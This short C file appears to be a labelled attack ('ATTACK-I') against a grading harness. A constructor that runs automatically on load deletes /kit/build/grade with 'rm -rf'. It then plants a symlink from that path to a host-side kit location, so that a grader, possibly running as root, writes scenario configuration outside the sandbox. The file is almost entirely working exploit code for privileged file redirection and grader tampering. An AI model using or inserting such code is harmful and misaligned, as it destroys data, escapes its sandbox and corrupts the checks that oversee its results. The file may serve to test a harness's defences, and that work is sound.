/* (i) In the unit tests, point build/grade (where the grader, perhaps
 * root, later writes each scenario's configuration) at the kit on the
 * host. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    if (!in_unit_test())
        return;
    if (system("rm -rf /kit/build/grade") != 0)
        fprintf(stderr, "ATTACK-I rm failed\n");
    if (symlink("@KIT@", "/kit/build/grade") == 0)
        fprintf(stderr, "ATTACK-I planted the link\n");
}
